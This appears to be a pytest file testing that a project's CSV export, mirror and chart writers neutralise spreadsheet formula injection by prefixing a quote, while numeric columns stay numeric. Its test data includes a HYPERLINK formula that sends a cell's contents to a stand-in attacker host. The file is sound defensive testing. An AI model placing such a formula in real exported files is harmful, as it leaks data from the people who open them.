"""Every CSV the project writes opens as text where a platform wrote text,
and the export and ``mirror --csv`` write the same rows (issue 11).

Each writer is fed text beginning with each character a spreadsheet runs as
a formula (OWASP, "CSV Injection"), and its file is read back with Python's
csv module and with pandas: the cell must be the text with one ``'`` in
front, and the project's own numbers must still read as numbers.
"""

from __future__ import annotations

import ast
import copy
import csv
import gzip
import io
import subprocess
import sys
from contextlib import closing
from pathlib import Path

import pandas as pd
import pytest
from flask import Flask
from flask.testing import FlaskClient

from client.mirror import Mirror, write_csv
from keys.records import PlatformKey
from ledger import storage
from ledger.log import Log
from ledger.records.export import CSV_COLUMNS, csv_row, csv_text, safe_cell
from ledger.tlog import merkle, verify
from tests.ledger.test_evenness import EVEN, TENTH, Builder, register, submit
from tests.recordkit import amendment, appeal, decision, sign
from web import charts

KEY = PlatformKey(bytes([7]) * 32)
ROOT = Path(__file__).resolve().parents[2]

#: Text beginning with each formula character, and with the quote itself.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
]
#: What a record may hold: no record string holds a carriage return (docs/records.md).
LOGGABLE = [h for h in HOSTILE if "\r" not in h]


def unsafe(cell: str) -> str:
    """The text back from a safe cell: remove one leading quote, as the docs say."""
    return cell[1:] if cell.startswith("'") else cell


def test_safe_cell_prefixes_exactly_the_formula_starts() -> None:
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    for text in ("", "plain", "1", "a=b", "a-b", " =1", "#1", "d-0001", "\n=1"):
        assert safe_cell(text) == text
    for text in [*HOSTILE, "", "plain", "''", "'"]:
        assert unsafe(safe_cell(text)) == text


def test_text_is_neutralised_and_numbers_stay_numbers() -> None:
    rec = copy.deepcopy(decision("-7"))
    rec["schema_version"] = -1  # a JSON number, even negative, is no formula
    rec["keywords"] = ["-a", "b"]
    rec["account"]["public_subject"]["display_name"] = "@someone"
    row = dict(zip(CSV_COLUMNS, csv_row(3, bytes(32), "2026-01-01T00:00:00.000Z", rec, {"value": "+AB="}), strict=True))
    assert (row["index"], row["schema_version"]) == ("3", "-1")
    assert row["record_id"] == "'-7"
    assert row["keywords"] == "'-a;b"
    assert row["account.public_subject.display_name"] == "'@someone"
    assert row["signature.value"] == "'+AB="  # base64 may begin with "+": text, so neutralised too
    assert row["violation_found"] == "true"


def _read_both(text: str) -> tuple[list[dict[str, str]], pd.DataFrame]:
    return list(csv.DictReader(io.StringIO(text, newline=""))), pd.read_csv(io.StringIO(text, newline=""))


@pytest.fixture
def hostile_log(app: Flask, client: FlaskClient) -> Log:
    """A log whose records carry each hostile text as statement and display name, under a record id like "-0"."""
    log: Log = app.extensions["ledger"].log
    log.registry.add_platform("example-social", "Example Social", KEY.public_key)
    recs = []
    for i, text in enumerate(LOGGABLE):
        rec = decision(f"-{i}")
        rec["statement"] = text
        rec["account"]["public_subject"]["display_name"] = text
        recs.append(rec)
    recs += [appeal("a-1", "-1"), amendment("m-2", "-2")]
    r = client.post("/api/v1/records", json={"records": [sign(r, KEY) for r in recs]})
    assert r.status_code == 201, r.json
    return log


def _export(client: FlaskClient, size: int) -> str:
    r = client.get(f"/api/v1/export?start=0&end={size}&format=csv")
    assert r.status_code == 200, r.data
    body = gzip.decompress(r.data).decode()
    assert r.headers["Ledger-Checkpoint-Size"] == str(size)
    return body


def _mirror_csv(log: Log, tmp_path: Path) -> str:
    """``mirror --csv``'s file for the whole log, the mirror filled from the log's own entries."""
    size = log.latest_size()
    with log.read() as s:
        data = storage.read_entries(s, 0, size)
        note = log.latest(s).note
    cp = verify.verify_checkpoint(note, log.verifier)
    with closing(Mirror(tmp_path / "mirror.sqlite3", log.verifier)) as m:
        m.append([(i, d, merkle.record_hash(d)) for i, d in enumerate(data)])
        m.add_checkpoint(cp, note)
        assert write_csv(m, tmp_path / "records.csv", note) == len(LOGGABLE) + 2
    return (tmp_path / "records.csv").read_bytes().decode()


def test_export_and_mirror_write_the_same_safe_rows(client: FlaskClient, hostile_log: Log, tmp_path: Path) -> None:
    size = hostile_log.latest_size()
    export, mirrored = _export(client, size), _mirror_csv(hostile_log, tmp_path)
    assert export == mirrored  # one header, one set of rows, byte for byte
    assert export.startswith(csv_text([CSV_COLUMNS]))
    for name, text in (("export", export), ("mirror", mirrored)):
        rows, frame = _read_both(text)
        assert tuple(frame.columns) == CSV_COLUMNS, name
        assert len(rows) == len(frame) == len(LOGGABLE) + 2
        want = ["'" + t for t in LOGGABLE]
        assert [r["statement"] for r in rows[: len(LOGGABLE)]] == want, name
        assert list(frame["statement"][: len(LOGGABLE)]) == want, name
        assert list(frame["account.public_subject.display_name"][: len(LOGGABLE)]) == want, name
        assert [unsafe(r["statement"]) for r in rows[: len(LOGGABLE)]] == LOGGABLE
        assert list(frame["record_id"]) == [f"'-{i}" for i in range(len(LOGGABLE))] + ["a-1", "m-2"], name
        assert list(frame["refs.record_id"][len(LOGGABLE) :]) == ["'-1", "'-2"]
        # The project's numbers stay numbers.
        assert list(frame["index"]) == list(range(1, size)), name
        assert frame["index"].dtype.kind == "i"
        assert frame["schema_version"].dtype.kind == "i"


def test_chart_csv_text_is_safe_and_its_numbers_stay_numbers() -> None:
    text = charts.csv_text(["name", "estimate", "count", "flagged"], [[h, -0.25, -3, None] for h in HOSTILE])
    rows, frame = _read_both(text)
    want = ["'" + h for h in HOSTILE]
    assert [r["name"] for r in rows] == want
    assert list(frame["name"]) == want
    assert [r["estimate"] for r in rows] == ["-0.25"] * len(HOSTILE)
    assert list(frame["estimate"]) == [-0.25] * len(HOSTILE)
    assert list(frame["count"]) == [-3] * len(HOSTILE)


def test_dashboard_chart_csv_of_a_negative_looking_rule_id(app: Flask, client: FlaskClient) -> None:
    """A platform's rule id "-1" (the rule id pattern allows it) reads as text, not the number -1."""
    register(app)
    submit(client, Builder().cell("other-video", "ordinary_user", "-1", EVEN, TENTH))
    r = client.get("/stats/other-video/charts/exemption_rate.csv?rule_id=-1")
    assert r.status_code == 200, r.data
    rows, frame = _read_both(r.get_data(as_text=True))
    assert rows
    assert [row["rule_id"] for row in rows] == ["'-1"] * len(rows)
    assert list(frame["rule_id"]) == ["'-1"] * len(rows)
    assert frame["tree_size"].dtype.kind == "i"
    assert frame["cases"].dtype.kind == "i"
    assert frame["estimate"].dtype.kind == "f"


def test_the_client_writes_its_csv_without_the_server() -> None:
    """``client.mirror`` takes the CSV definition from ledger's pure part, loading neither Flask nor SQLAlchemy."""
    code = "import sys, client.mirror; print(sorted({m.split('.')[0] for m in sys.modules}))"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=ROOT).stdout
    loaded = set(ast.literal_eval(out))
    assert "ledger" in loaded
    assert not loaded & {"flask", "sqlalchemy", "marshmallow", "api", "web"}, loaded
